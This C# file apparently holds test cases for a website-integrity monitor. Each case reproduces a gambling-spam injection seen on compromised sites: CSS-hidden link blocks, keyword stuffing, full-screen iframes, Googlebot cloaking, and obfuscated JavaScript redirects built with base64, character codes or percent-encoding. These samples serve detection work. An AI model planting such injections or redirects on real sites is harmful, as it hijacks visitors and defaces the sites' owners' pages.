using System.Text;

namespace MonitorBot.Core.Integrity.Cases;

/// <summary>A third set, written whole before it was judged once: what incident reports and cleaned websites show.</summary>
internal static class InjectedThird
{
    private static readonly string[] Anchors = ["slot online", "situs toto", "judi bola", "rtp slot", "slot dana", "togel hari ini"];

    private static readonly string Block = string.Concat(Anchors.Select((text, n) => $"""<a href="https://mitra-{n}.my.id/">{text}</a> """));

    private static readonly Case JapaneseShop = new("", "")
    {
        Title = "激安 ブランド 時計 コピー 通販 専門店",
        Content = $"<ul>{string.Concat(Enumerable.Range(1, 12).Select(n => $"<li><a href=\"https://tokei-shop{n}.top/item/{n}\">ロレックス コピー {n}</a></li>"))}</ul>",
    };

    public static readonly Case[] All =
    [
        new("spacer block of a page builder", "hidden") { Foot = $"""<div class="wp-block-spacer" style="height:0px;overflow:hidden">{Block}</div>""" },
        new("list one pixel high", "hidden") { Side = $"""<ul style="max-height:1px;overflow:hidden">{Block}</ul>""" },
        new("clipped to nothing and hidden from readers", "hidden") { Foot = $"""<div aria-hidden="true" style="position:absolute;clip-path:inset(100%)">{Block}</div>""" },
        new("faded by a filter in per cent", "hidden") { Foot = $"""<div style="filter:opacity(0%)">{Block}</div>""" },
        new("scaled to nearly nothing", "hidden") { Foot = $"""<div style="transform:scale(0.001)">{Block}</div>""" },
        new("zoomed to nearly nothing", "hidden") { Foot = $"""<div style="zoom:0.01">{Block}</div>""" },
        new("nearly transparent letters", "hidden") { Foot = $"""<div style="color:rgba(255,255,255,0.01)">{Block}</div>""" },
        new("letters a shade off the ground", "hidden") { Foot = $"""<div style="color:#fefefe;background:#ffffff">{Block}</div>""" },
        new("far above in em", "hidden") { Top = $"""<div style="position:absolute;top:-1000em">{Block}</div>""" },
        new("letters of a hundredth of a pixel", "hidden") { Foot = $"""<p style="font-size:0.01px;line-height:0">{Block}</p>""" },
        new("grid row of no height", "hidden") { Foot = $"""<div style="display:grid;grid-template-rows:0fr;overflow:hidden;height:0">{Block}</div>""" },
        new("rule by :is and an attribute", "class rule") { Head = "<style>:is(.seo-a,.seo-b)[data-x]{position:fixed;left:-200vw}</style>", Foot = $"""<div class="seo-b" data-x="1">{Block}</div>""" },
        new("rule inside a layer and a media for screens", "class rule") { Head = "<style>@layer util{@media screen{.q7z{opacity:0;pointer-events:none;height:0}}}</style>", Foot = $"""<div class="q7z">{Block}</div>""" },
        new("heading pushed out of its box", "stuffing") { Top = """<h1 style="text-indent:-9999px">SLOT GACOR MAXWIN RTP LIVE HARI INI SITUS TOTO TERPERCAYA</h1>""" },
        new("words in a hidden text area", "stuffing") { End = """<textarea style="display:none">slot gacor, slot maxwin, rtp live, situs toto, scatter hitam, mahjong ways, toto macau, depo 10k</textarea>""" },
        new("hidden paragraph of brands", "stuffing") { Content = """<p hidden>DEWA138 RAJA77 KINGTOTO INDO4D daftar login slot gacor link alternatif deposit pulsa bonus new member</p>""" },
        new("script hides all of a class", "script hides") { Foot = $"""<div class="promo-x">{Block}</div>""", End = """<script>document.querySelectorAll('.promo-x').forEach(function(e){e.style.display='none'});</script>""" },
        new("script sets the whole style", "script hides") { Foot = $"""<div id="zx9">{Block}</div>""", End = """<script>document.getElementById("zx9").setAttribute("style","position:absolute;left:-99999px");</script>""" },
        new("script takes the block out after loading", "script hides") { Foot = $"""<div id="zz1">{Block}</div>""", End = """<script>window.onload=function(){document.getElementById('zz1').remove();}</script>""" },
        new("frame with its own document", "frame") { End = """<iframe width="1" height="1" srcdoc="&lt;a href='https://slotgacor77.lol/'&gt;slot gacor hari ini&lt;/a&gt;"></iframe>""" },
        new("frame over the whole screen", "frame") { End = """<iframe src="https://dewa138-login.pages.dev/" style="position:fixed;top:0;left:0;width:100vw;height:100vh;border:0;z-index:99999"></iframe>""" },
        new("links in a foreign object of a picture", "outbound") { Foot = """<svg width="0" height="0"><foreignObject><a href="https://rtp-live-slot.click/">rtp live</a></foreignObject></svg>""" },
        new("approved comment with a link", "outbound") { Content = """<ol class="commentlist"><li><cite><a href="https://agensbo.example.com/" rel="nofollow ugc">agen sbobet terpercaya</a></cite><p>Terima kasih infonya</p></li></ol>""" },
        new("list of partners in the side column", "outbound") { Side = """<h6>Link Partner</h6><ul><li><a href="https://cahaya-abadi.com/">RTP Slot</a></li><li><a href="https://sinar-jaya.net/">Toto Macau</a></li><li><a href="https://karya-mulia.org/">Slot Thailand</a></li></ul>""" },
        new("banner through a link collector", "outbound") { Side = """<a href="https://heylink.me/dewa88official"><img src="/wp-content/uploads/b.gif" alt="DEWA88 Slot Gacor Login Link Alternatif"></a>""" },
        new("one anchor amid an official sentence", "outbound") { Content = """<p>Untuk informasi lebih lanjut silakan kunjungi <a href="https://ceritakita.web.id/">situs toto</a> atau kantor kami pada jam kerja.</p>""" },
        new("own doorway pages linked in the foot", "outbound") { Foot = """<p><a href="/slot-gacor-hari-ini/">.</a> <a href="/rtp-live-pragmatic/">.</a> <a href="/situs-toto-macau/">.</a></p>""" },
        new("connection prepared to a gambling host", "outbound") { Head = """<link rel="preconnect" href="https://cdn.slotgacor88.com">""", End = """<script src="https://cdn.slotgacor88.com/x.js" async></script>""" },
        new("whole page replaced", "title") { Title = "LUNA777: Situs Slot Gacor Malam Ini Link Slot777 Maxwin", Content = """<h1>LUNA777</h1><a href="https://linkgas.pro/daftar">DAFTAR</a> <a href="https://linkgas.pro/login">LOGIN</a>""" },
        new("brand with login words only", "title") { Title = "INDOBET88 ⚡ Link Daftar Login Slot88 Akun VIP Gampang Menang" },
        new("brand of slots as a portal", "title") { Title = "ZEUS138 - Login Situs Slot Gacor Resmi" },
        new("mathematical letters", "disguise") { Title = "𝗦𝗟𝗢𝗧 𝗚𝗔𝗖𝗢𝗥 𝗛𝗔𝗥𝗜 𝗜𝗡𝗜" },
        new("dots between the letters", "disguise") { Title = "S.L.O.T G.A.C.O.R M.A.X.W.I.N" },
        new("joined by soft hyphens", "disguise") { Title = "Slot\u00ADGa\u00ADcor Max\u00ADwin Ter\u00ADper\u00ADca\u00ADya" },
        new("words broken by slashes", "disguise") { Title = "SLOT/GACOR/MAXWIN/RTP/LIVE" },
        new("Thai title", "title") { Title = "สล็อตเว็บตรง แตกง่าย ฝากถอน ไม่มีขั้นต่ำ" },
        new("keywords of all kinds", "meta") { Head = """<meta name="keywords" content="slot gacor, slot online, judi bola, togel online, poker online, rtp live">""" },
        new("words for the preview's picture", "meta") { Head = """<meta property="og:image:alt" content="Slot Gacor Maxwin Terpercaya Hari Ini">""" },
        new("product with stars", "json-ld") { Head = """<script type="application/ld+json">{"@context":"https://schema.org","@type":"Product","name":"MPO1881 Login Slot Gacor","brand":{"@type":"Brand","name":"MPO1881"},"aggregateRating":{"@type":"AggregateRating","ratingValue":"4.9","reviewCount":"88888"}}</script>""" },
        new("canonical to an accelerated copy", "canonical") { Head = """<link rel="canonical" href="https://amp-gacor-maxwin.pages.dev/">""" },
        new("translations on a doorway", "hreflang") { Head = """<link rel="alternate" hreflang="th-TH" href="https://disperkim.kaltimprov.go.id/th/%E0%B8%AA%E0%B8%A5%E0%B9%87%E0%B8%AD%E0%B8%95">""" },
        new("script decodes and leads the frame away", "script") { End = $"""<script>top.location.replace(atob('{Convert.ToBase64String(Encoding.UTF8.GetBytes("https://slotgacor-vip.xyz/?ref=kaltim"))}'));</script>""" },
        new("script joins an array", "script") { End = """<script>var p=['ht','tps://','slot','gacor','777','.vip/'].join('');location.href=p;</script>""" },
        new("script applies character codes", "script") { End = $"""<script>document.write(String.fromCharCode.apply(null,[{string.Join(',', "<a href=\"https://maxwin88.top\">slot gacor</a>".Select(letter => (int)letter))}]));</script>""" },
        new("script inserts a template literal", "script") { End = """<script>document.body.insertAdjacentHTML('beforeend',`<div style="position:absolute;left:-9999px"><a href="https://bandarqq-asia.com/">bandarqq</a></div>`);</script>""" },
        new("script with percent signs", "script") { End = """<script>document.write(unescape('%3Ca%20href%3D%22https%3A%2F%2Fslotgacor5000.com%22%3Eslot%20gacor%3C%2Fa%3E'));</script>""" },
        new("slugs of ways to pay", "sitemap") { Listed = [(ListKind.Sitemap, "/slot-dana/", ""), (ListKind.Sitemap, "/depo-qris-5k-slot-gacor/", ""), (ListKind.Sitemap, "/bocoran-admin-jarwo-hari-ini/", "")] },
        new("query that names the page", "sitemap") { Listed = [(ListKind.Sitemap, "/index.php?id=slot+gacor+hari+ini", ""), (ListKind.Sitemap, "/index.php?id=situs+slot+maxwin", "")] },
        new("documents uploaded for search engines", "sitemap") { Listed = [(ListKind.Sitemap, "/uploads/situs-slot-gacor-terpercaya.pdf", ""), (ListKind.Sitemap, "/uploads/rtp-live-slot-hari-ini.pdf", "")] },
        new("feed advises where to win", "feed") { Listed = [(ListKind.Feed, "/2026/11/rekomendasi", "Rekomendasi Situs Slot Gampang Menang Malam Ini"), (ListKind.Feed, "/2026/11/pola", "Pola Gacor Mahjong Ways 2 Hari Ini")] },
        new("accounts of a forum in the list", "list") { Listed = [(ListKind.List, "/anggota/1", "Slot Server Thailand Super Gacor"), (ListKind.List, "/anggota/2", "Toto Togel 4D Terpercaya")] },
        new("shop of counterfeits for Googlebot", "cloaking") { ForGooglebot = JapaneseShop },
        new("led from Google to a prize page", "redirect") { LedTo = "https://promo-hadiah.click/?src=g" },
        new("links for Googlebot by a hidden plugin", "cloaking") { ForGooglebot = new("", "") { Foot = Block } },
    ];
}
